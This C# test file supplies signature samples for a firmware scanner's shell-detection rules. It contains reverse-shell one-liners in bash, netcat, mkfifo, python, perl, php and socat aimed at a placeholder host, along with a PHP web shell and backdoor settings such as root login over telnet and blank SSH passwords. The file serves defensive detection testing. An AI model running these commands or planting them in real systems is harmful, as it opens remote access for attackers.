using System.Collections.Generic;

namespace FirmwareScanner.Signatures.Tests.BuiltIn;

/// <summary>Samples for the rules of <c>shells.yar</c>.</summary>
internal static class ShellsSamples
{
    public static IEnumerable<RuleSample> All()
    {
        yield return RuleSample.Component(
            "telnetd_root_shell",
            "0A '/usr/sbin/telnetd -p 23 -l /bin/sh &' 0A",
            nearMiss: "0A '/usr/sbin/telnetd -p 23 -l /bin/login &' 0A");
        yield return RuleSample.Component(
            "inittab_console_root_shell",
            "0A 'ttyS0::respawn:/bin/sh' 0A",
            nearMiss: "0A 'ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100' 0A");
        yield return RuleSample.Component(
            "getty_without_login",
            "0A 'ExecStart=-/sbin/agetty --autologin root --noclear ttyS0' 0A",
            nearMiss: "0A 'ExecStart=-/sbin/agetty --autologin user --noclear ttyS0' 0A");
        yield return RuleSample.Component(
            "kernel_init_shell",
            "00 'bootargs=console=ttyS0,115200 init=/bin/sh root=/dev/mtdblock2' 00",
            nearMiss: "00 'bootargs=console=ttyS0,115200 init=/sbin/init root=/dev/mtdblock2' 00");
        yield return RuleSample.Component(
            "ssh_permits_root_login",
            "0A 'PermitRootLogin yes' 0A",
            nearMiss: "0A '#PermitRootLogin yes' 0A");
        yield return RuleSample.Component(
            "ssh_permits_empty_passwords",
            "0A 'PermitEmptyPasswords yes' 0A",
            nearMiss: "0A 'PermitEmptyPasswords no' 0A");
        yield return RuleSample.Component(
            "dropbear_blank_passwords",
            "0A '/usr/sbin/dropbear -RB -p 22' 0A",
            nearMiss: "0A '/usr/sbin/dropbear -R -p 22' 0A");
        yield return RuleSample.Component(
            "reverse_shell_bash",
            "'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' 0A",
            nearMiss: "'bash -i > /dev/tty1 0>&1' 0A");
        yield return RuleSample.Component(
            "reverse_shell_netcat",
            "0A 'nc 192.0.2.1 4444 -e /bin/sh' 0A",
            nearMiss: "0A 'nc 192.0.2.1 4444 -w 3' 0A");
        yield return RuleSample.Component(
            "reverse_shell_fifo",
            "'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f' 0A",
            nearMiss: "'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/gzip 2>&1|nc 192.0.2.1 4444 >/tmp/f' 0A");
        yield return RuleSample.Component(
            "reverse_shell_python",
            "'python -c ' 27 'import socket,subprocess,os;s=socket.socket(socket.AF_INET' 27 0A",
            nearMiss: "'import socket,subprocess,sys' 0A");
        yield return RuleSample.Component(
            "reverse_shell_perl",
            "'perl -e ' 27 'use Socket;$i=' 22 '192.0.2.1' 22 ';$p=4444;' 27 0A",
            nearMiss: "'use Socket;$n=' 22 '192.0.2.1' 22 ';' 0A");
        yield return RuleSample.Component(
            "reverse_shell_php",
            "'php -r ' 27 '$sock=fsockopen(' 22 '192.0.2.1' 22 ',4444);exec(' 22 '/bin/sh -i <&3 >&3 2>&3' 22 " +
            "');' 27",
            nearMiss: "'$sock=fsockopen($host,$port);fwrite($sock,$request);'");
        yield return RuleSample.Component(
            "reverse_shell_socat",
            "'socat exec:' 27 'bash -li' 27 ',pty,stderr,setsid,sigint,sane tcp:192.0.2.1:4444' 0A",
            nearMiss: "'socat exec:' 27 'date -u' 27 ',pty,stderr tcp-listen:13' 0A");
        yield return RuleSample.Component(
            "php_web_shell",
            "'<?php system($_GET[' 22 'cmd' 22 ']); ?>'",
            nearMiss: "'<?php print($_GET[' 22 'cmd' 22 ']); ?>'");
    }
}
